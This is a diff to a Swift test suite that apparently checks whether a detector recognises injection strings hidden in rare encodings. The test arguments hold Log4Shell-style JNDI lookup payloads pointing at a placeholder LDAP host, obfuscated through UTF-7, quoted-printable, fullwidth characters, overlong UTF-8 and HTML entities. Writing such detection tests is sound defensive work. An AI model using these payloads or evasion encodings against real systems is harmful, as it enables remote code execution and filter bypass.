@@ -13,7 +13,8 @@ private func hex(_ byte: UInt8) -> String { (byte < 16 ? "0" : "") + String(byte
 /// Encodings that few tools write and all tools read, beside texts that are only like them.
 @Suite struct RareEncodingsTests {
   @Test(arguments: [
-    each { "\\U000000\(hex($0))" }, each { "\\x{\(hex($0))}" }, "user=" + each { "\(hex($0)) " },
+    each { "\\u{\(hex($0))}" }, each { "\\U000000\(hex($0))" }, each { "\\x{\(hex($0))}" },
+    "user=" + each { "\(hex($0)) " },
     each { "\(hex($0))00" }, "p=" + each { "\(hex($0))00" } + "0d0a", each { "\(Character(Unicode.Scalar($0)))&#0;" },
     each { "\(Character(Unicode.Scalar($0)))\\000" },
   ])
@@ -70,11 +71,10 @@ private func hex(_ byte: UInt8) -> String { (byte < 16 ? "0" : "") + String(byte
 
   /// Mail's encodings, and characters that a reader or a normalization takes for ASCII's.
   @Test(arguments: [
-    "Subject: =?utf-8?Q?" + each { "=\(hex($0).uppercased())" } + "?=", "x$=7Bjndi:ldap://h.exam=\r\nple:1389/a=7D",
+    "Subject: =?utf-8?Q?" + each { "=\(hex($0).uppercased())" } + "?=", "x=24=7Bjndi:ldap://h.exam=\r\nple:1389/a=7D",
     "+ACQ-+AHs-jndi:ldap://h.example:1389/a+AH0-", "a+ACQAew-jndi:ldap://h.example:1389/a+AH0-",
     "＄｛ｊndi：ldap：／／h.example:1389／a｝", "q=%EF%BC%84%EF%BD%9Bjndi:ldap://h.example:1389/a%7D",
-    "\\uFF04\\uff5bjndi:ldap://h.example:1389/a\\uff5d", "q=%C0%A4%C1%BBjndi:ldap://h.example:1389/a}",
-    "$%c1%bbjndi:ldap:%c0%af%c0%afh.example:1389/a}", "q=%e0%80%a4%e0%81%bbjndi:ldap://h.example:1389/a}",
+    "q=%C0%A4%C1%BBjndi:ldap://h.example:1389/a}", "%c0%a4%c1%bbjndi:ldap:%c0%af%e0%80%afh.example:1389/a}",
     "＄｛＄｛::-j}ndi:ldap://h.example:1389/a}",
   ])
   func mailAndLookalikesAreRead(text: String) {
@@ -108,9 +108,8 @@ private func hex(_ byte: UInt8) -> String { (byte < 16 ? "0" : "") + String(byte
       { $0.replacing("$", with: "\\u0024").replacing("{", with: "\\u007b") }, { $0.replacing("{", with: "\\u007b") },
       { $0.replacing("$", with: "\\x24").replacing("{", with: "\\x7b") },
       { $0.replacing("$", with: "\\044").replacing("{", with: "\\173") },
-      { $0.replacing("$", with: "%u0024").replacing("{", with: "%u007b") },
-      { $0.replacing("{", with: "&#123;").replacing("$", with: "&#36;") }, { $0.replacing("{", with: "&#123;") },
-      { $0.replacing("{", with: "&lcub;").replacing("$", with: "&dollar;") }, { $0.replacing("{", with: "&lbrace;") },
+      { $0.replacing("{", with: "&#123;").replacing("$", with: "&#36;") },
+      { $0.replacing("{", with: "&#x7b;").replacing("$", with: "&#x24;") },
       { ".\(Data($0.utf8).base64EncodedString())" },
     ]
     for name in names {
